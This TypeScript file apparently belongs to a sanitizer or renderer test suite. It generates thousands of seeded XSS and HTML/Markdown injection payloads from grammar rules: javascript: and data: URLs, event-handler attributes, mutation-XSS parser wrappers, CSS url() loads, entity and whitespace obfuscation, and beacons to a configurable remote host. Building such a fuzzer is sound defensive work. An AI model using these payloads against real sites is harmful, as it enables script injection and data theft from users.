import type { HostilePayload } from './hostile-content';
import { pick, seeded } from './seeded';

/*
 * Hostile texts from a grammar of our own: what a payload wants to do (run a script, load an address), in a place of HTML or Markdown where that might work, written in a way that a
 * careless reader takes for something else, inside what makes parsers disagree. Each list below is one rule.
 */

type Chance = () => number;
type Rule = (chance: Chance, remote: string) => string;

const scripts: readonly Rule[] = [
  () => 'window.hostileEffect=1',
  () => "self['hostile'+'Effect']=1",
  () => 'hostileEffect=1',
  () => 'parent.hostileEffect=top.hostileEffect=1',
  () => 'setTimeout`window.hostileEffect=1`',
  () => 'Function`window.hostileEffect=1```',
  (_, remote) => `import('${remote}.js')`,
  (_, remote) => `fetch('${remote}')`,
  (_, remote) => `new Image().src='${remote}'`,
  (_, remote) => `navigator.sendBeacon('${remote}')`,
  (_, remote) => `new WebSocket('${remote}'.replace('http','ws'))`,
  (_, remote) => `open('${remote}')`,
  (_, remote) => `location='${remote}'`,
];

const schemes: readonly Rule[] = [
  (chance, remote) => `javascript:${pick(chance, scripts)(chance, remote)}`,
  (chance, remote) => `javascript://%0a${pick(chance, scripts)(chance, remote)}`,
  (chance, remote) => `vbscript:${pick(chance, scripts)(chance, remote)}`,
  (chance, remote) => `data:text/html,<script>${pick(chance, scripts)(chance, remote)}</script>`,
  (chance, remote) => `data:text/html;base64,${base64(`<script>${pick(chance, scripts)(chance, remote)}</script>`)}`,
  (_, remote) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${remote}'/></svg>`,
  (chance, remote) => `data:application/xhtml+xml;charset=utf-7,${pick(chance, scripts)(chance, remote)}`,
  (_, remote) => remote,
  (_, remote) => remote.replace(/^https?:/, ''),
  (_, remote) => remote.replace(/^https?:\/\//, '\\\\'),
  (_, remote) => remote.replace(/^https?:\/\//, 'https:\\'),
  (_, remote) => `view-source:${remote}`,
  (_, remote) => `feed:${remote}`,
  (_, remote) => `jar:${remote}!/x`,
  (_, remote) => remote.replace(/^http/, 'ws'),
  (_, remote) => remote.replace(/^https?/, 'ftp'),
  (_, remote) => remote.replace(/^https?/, 'smb'),
  () => 'file:///etc/passwd',
  () => 'file://///server/share/x',
  () => 'blob:null/1',
  () => 'filesystem:app://raakvlak/temporary/x',
  () => 'app://raakvlak/file/00000000000000000000000000',
  () => 'chrome://gpucrash',
  () => 'devtools://devtools/bundled/inspector.html',
  () => 'ms-msdt:/id',
  () => 'search-ms:query=x',
];

/** An address as somebody writes it who does not want it to be known. */
const disguises: readonly ((chance: Chance, address: string) => string)[] = [
  (_, address) => address,
  (_, address) => address,
  (chance, address) => mixedCase(chance, address),
  (chance, address) => `${pick(chance, [' ', '\t', '\n', '\u0001', '\u00a0', '\ufeff', '\u0000'])}${address}`,
  (chance, address) => splitAt(chance, address, pick(chance, ['\t', '\n', '\r', '&Tab;', '&NewLine;', '\u0000'])),
  (chance, address) => entities(chance, address, 1),
  (chance, address) => entities(chance, address, 0.3),
  (_, address) => address.replace(':', '&colon;'),
  (_, address) => address.replace(':', '%3A'),
  (_, address) => address.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  (_, address) => address.replace(/[a-z]/, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)),
];

const holders: readonly (readonly [string, string])[] = (
  'a:href area:href base:href link:href a:ping a:xlink:href img:src img:srcset img:lowsrc img:longdesc image:href image:src source:src source:srcset video:src video:poster audio:src ' +
  'track:src iframe:src iframe:srcdoc embed:src object:data object:codebase applet:code applet:archive form:action button:formaction input:src input:formaction body:background ' +
  'table:background td:background script:src frame:src bgsound:src portal:src blockquote:cite q:cite ins:cite del:cite html:manifest link:imagesrcset math:href maction:xlink:href ' +
  'svg:href use:href use:xlink:href script:href animate:values animate:from set:to feImage:href image:xlink:href pattern:href textPath:href mpath:href linearGradient:href ' +
  'annotation-xml:definitionURL img:usemap x-y:href keygen:autofocus meta:content param:value menuitem:icon command:icon isindex:action'
)
  .split(' ')
  .map((pair) => [pair.slice(0, pair.indexOf(':')), pair.slice(pair.indexOf(':') + 1)]);

const events =
  'load error click focus focusin blur toggle beforetoggle pointerover mouseover mouseenter wheel scroll scrollend resize animationstart animationend transitionend start finish bounce begin end repeat canplay loadstart play timeupdate cuechange message hashchange popstate pageshow beforeinput input change select submit reset invalid search copy cut paste drag drop contextmenu auxclick keydown securitypolicyviolation slotchange unhandledrejection beforematch fullscreenchange'.split(
    ' ',
  );
const eventElements =
  'img svg body iframe video audio object embed input select textarea button details dialog marquee math form p div a table td style link script x-y animate set frameset source track isindex keygen image'.split(
    ' ',
  );

const styles: readonly Rule[] = [
  (_, remote) => `background:url(${remote}.png)`,
  (_, remote) => `background:\\75 rl('${remote}.png')`,
  (_, remote) => `background-image:image-set('${remote}.png' 1x)`,
  (_, remote) => `background-image:-webkit-image-set(url(${remote}.png) 1x)`,
  (_, remote) => `background-image:cross-fade(url(${remote}.png),url(${remote}2.png))`,
  (_, remote) => `list-style:url(${remote}.png)`,
  (_, remote) => `cursor:url(${remote}.cur),auto`,
  (_, remote) => `content:url(${remote}.png)`,
  (_, remote) => `mask:url(${remote}.svg#x)`,
  (_, remote) => `filter:url(${remote}.svg#x)`,
  (_, remote) => `shape-outside:url(${remote}.png)`,
  (_, remote) => `border-image:url(${remote}.png) 1`,
  (_, remote) => `behavior:url(${remote}.htc)`,
  (_, remote) => `-moz-binding:url(${remote}.xml#x)`,
  (chance, remote) => `width:expression(${pick(chance, scripts)(chance, remote)})`,
  () => 'position:fixed;inset:0;z-index:2147483647',
];
const sheets: readonly Rule[] = [
  (_, remote) => `@import '${remote}.css';`,
  (_, remote) => `@import url(${remote}.css) screen;`,
  (_, remote) => `@font-face{font-family:x;src:url(${remote}.woff)}*{font-family:x}`,
  (chance, remote) => `*{${pick(chance, styles)(chance, remote)}}`,
  (chance, remote) => `*::before{content:'x';${pick(chance, styles)(chance, remote)}}`,
  (_, remote) => `@namespace url(${remote});`,
];

/** Elements of which each tries one thing. */
const elements: readonly Rule[] = [
  (chance, remote) => {
    const name = pick(chance, eventElements);
    const extra = pick(chance, ['', ' src=x', ' autofocus tabindex=1', ' open', ' style="animation:x"', ' href=x']);
    return tag(chance, `${name}${extra}`, `on${pick(chance, events)}`, pick(chance, scripts)(chance, remote));
  },
  (chance, remote) => {
    const [name, attribute] = pick(chance, holders);
    return tag(chance, name, attribute, addressOf(chance, remote));
  },
  (chance, remote) =>
    tag(chance, pick(chance, ['p', 'div', 'td', 'svg', 'x-y']), 'style', pick(chance, styles)(chance, remote)),
  (chance, remote) => `<style>${pick(chance, sheets)(chance, remote)}</style>`,
  (chance, remote) =>
    `<script${pick(chance, ['', ' type=module', ' async', '\u0000', '/x'])}>${pick(chance, scripts)(chance, remote)}</script>`,
  (chance, remote) =>
    `<meta http-equiv=${pick(chance, ['refresh', 'Refresh ', 'set-cookie'])} content="0;url=${addressOf(chance, remote)}">`,
  (chance, remote) =>
    `<link rel="${pick(chance, ['stylesheet', 'prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon', 'manifest', 'import', 'prerender'])}" as=script href="${remote}">`,
  (chance, remote) =>
    `<svg><${pick(chance, ['set', 'animate'])} attributeName=href ${pick(chance, ['to', 'values', 'from'])}="${addressOf(chance, remote)}"/></svg>`,
  (chance, remote) =>
    `<form action="${addressOf(chance, remote)}"><input name=${pick(chance, ['attributes', 'parentNode', 'nodeName', 'x'])}><button>x</button></form>`,
  (chance) =>
    `<p id="${pick(chance, ['root', '__proto__', 'constructor', 'body', 'raakvlak', 'location'])}" name=x>x</p>`,
  (chance, remote) =>
    `<img src=x alt="${attributeText(`"><img src=x onerror=${pick(chance, scripts)(chance, remote)}>`)}">`,
];

/** What makes two parsers read the same text as different things. */
const wraps: readonly ((inner: string) => string)[] = [
  (x) => `<svg>${x}</svg>`,
  (x) => `<svg><style>${x}`,
  (x) => `<svg><title>${x}</title></svg>`,
  (x) => `<svg><desc>${x}`,
  (x) => `<svg><foreignObject>${x}</foreignObject></svg>`,
  (x) => `<svg></p><style><a id="</style>${x}">`,
  (x) => `<math><mtext>${x}</mtext></math>`,
  (x) => `<math><mtext><table><mglyph><style><!--</style>${x}`,
  (x) => `<math><annotation-xml encoding="text/html">${x}`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<noscript><p title="</noscript>${x}">`,
  (x) => `<template>${x}</template>`,
  (x) => `<div><template shadowrootmode=open>${x}</template></div>`,
  (x) => `<table><tr>${x}<td>`,
  (x) => `<table><caption>${x}`,
  (x) => `<select><option>${x}</select>`,
  (x) => `<title>${x}</title>${x}`,
  (x) => `<textarea>${x}</textarea>${x}`,
  (x) => `<xmp>${x}</xmp>${x}`,
  (x) => `<noembed>${x}</noembed>`,
  (x) => `<iframe>${x}</iframe>`,
  (x) => `<iframe srcdoc="${attributeText(x)}"></iframe>`,
  (x) => `<!-->${x}-->`,
  (x) => `<!-- --!>${x}`,
  (x) => `<![CDATA[${x}]]>${x}`,
  (x) => `<?x ${x}?>`,
  (x) => `<p id="</p>${x}">x</p>`,
  (x) => `<p title='">${x}'>x</p>`,
  (x) => `<a href="https://example.org/" title="${attributeText(x)}">x</a>`,
  (x) => `<a>${x}<a>${x}</a>`,
  (x) => `<b><p>${x}</b></p>`,
  (x) => `${'<div>'.repeat(300)}${x}`,
  (x) => `<dialog open>${x}</dialog>`,
  (x) => `<frameset>${x}</frameset>`,
  (x) => `<plaintext>${x}`,
  (x) => x,
];

const mutations: readonly ((chance: Chance, text: string) => string)[] = [
  (_, text) => text,
  (_, text) => text,
  (_, text) => text,
  (chance, text) => mixedCase(chance, text),
  (chance, text) => splitAt(chance, text, pick(chance, ['\u0000', '\n', '\u200b', '<', '>', '"', "'", '`', '/', '\\'])),
  (_, text) => text.replace('<', '<<'),
  (_, text) => text.replace(/>$/, ''),
  (_, text) => text.replace(/ /g, '/'),
  (_, text) => text.replace(/ /g, '\f'),
  (_, text) => text.replace(/=/g, ' \n=\t'),
  (chance, text) => text.slice(0, Math.ceil(chance() * text.length)),
];

const markdowns: readonly Rule[] = [
  (chance, remote) => `[x](<${inMarkdown(addressOf(chance, remote))}>)`,
  (chance, remote) => `[x](${inMarkdown(addressOf(chance, remote)).replace(/[ ()]/g, '')} "t")`,
  (chance, remote) => `![x](<${inMarkdown(addressOf(chance, remote))}>)`,
  (chance, remote) => `![x][r]\n\n[r]: <${inMarkdown(addressOf(chance, remote))}>`,
  (chance, remote) =>
    `[x][r]\n\n[r]: ${inMarkdown(addressOf(chance, remote)).replace(/ /g, '')} '${elementOf(chance, remote)}'`,
  (chance, remote) => `<${inMarkdown(addressOf(chance, remote))}>`,
  (chance, remote) => `[${elementOf(chance, remote)}](${remote})`,
  (chance, remote) =>
    `![${attributeText(elementOf(chance, remote))}" onerror="${pick(chance, scripts)(chance, remote)}](x)`,
  (chance, remote) => `# ${elementOf(chance, remote)}`,
  (chance, remote) => `- [x] ${elementOf(chance, remote)}`,
  (chance, remote) => `> ${elementOf(chance, remote)}`,
  (chance, remote) => `| ${elementOf(chance, remote)} |\n|---|\n| ${elementOf(chance, remote)} |`,
  (chance, remote) => `\`\`\`"${elementOf(chance, remote)}\n${elementOf(chance, remote)}\n\`\`\``,
  (chance, remote) => `\\${elementOf(chance, remote)}`,
  (chance, remote) => `---\ntitle: ${elementOf(chance, remote)}\n---\n${elementOf(chance, remote)}`,
  (chance, remote) => `**${elementOf(chance, remote)}** _${elementOf(chance, remote)}_`,
  (chance, remote) => `www.example.org/${elementOf(chance, remote)} ${remote}"${elementOf(chance, remote)}`,
];

/** So many different texts. Those of a seed are the same everywhere; whatever they load is at `remote`, whatever they run sets `window.hostileEffect`. */
export function generatedPayloads(seed: number, count: number, remote: string): readonly HostilePayload[] {
  const chance = seeded(seed);
  const made = new Map<string, HostilePayload>();
  while (made.size < count) {
    const kind = chance() < 0.3 ? 'markdown' : 'html';
    const text = kind === 'markdown' ? pick(chance, markdowns)(chance, remote) : elementOf(chance, remote);
    made.set(`${kind} ${text}`, { name: `generated ${made.size} of seed ${seed}`, kind, text });
  }
  return [...made.values()];
}

function elementOf(chance: Chance, remote: string): string {
  let text = pick(chance, elements)(chance, remote);
  for (let depth = Math.floor(chance() * 3); depth > 0; depth -= 1) text = pick(chance, wraps)(text);
  return pick(chance, mutations)(chance, text);
}

function addressOf(chance: Chance, remote: string): string {
  return pick(chance, disguises)(chance, pick(chance, schemes)(chance, remote));
}

function tag(chance: Chance, start: string, attribute: string, value: string): string {
  const [quote, gap] = [pick(chance, ['"', "'", '', '`']), pick(chance, [' ', '/', '\n', '\t', '\f', ' / '])];
  const closed = pick(chance, ['>', '/>', `>x</${start.split(' ')[0] ?? ''}>`]);
  return `<${start}${gap}${attribute}=${quote}${quote === '"' ? attributeText(value) : value}${quote}${closed}`;
}

function attributeText(text: string): string {
  return text.replaceAll('"', '&quot;');
}

function inMarkdown(text: string): string {
  return text.replace(/[\n\r<>]/g, '');
}

function mixedCase(chance: Chance, text: string): string {
  return text.replace(/[a-z]/gi, (letter) => (chance() < 0.5 ? letter.toUpperCase() : letter.toLowerCase()));
}

function splitAt(chance: Chance, text: string, by: string): string {
  const at = Math.floor(chance() * Math.min(text.length, 12));
  return text.slice(0, at) + by + text.slice(at);
}

function entities(chance: Chance, text: string, share: number): string {
  return text.replace(/[^]/g, (letter) => {
    if (chance() >= share) return letter;
    const code = letter.charCodeAt(0);
    return pick(chance, [`&#${code};`, `&#x${code.toString(16)};`, `&#0000${code}`, `&#X${code.toString(16)}`]);
  });
}

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}
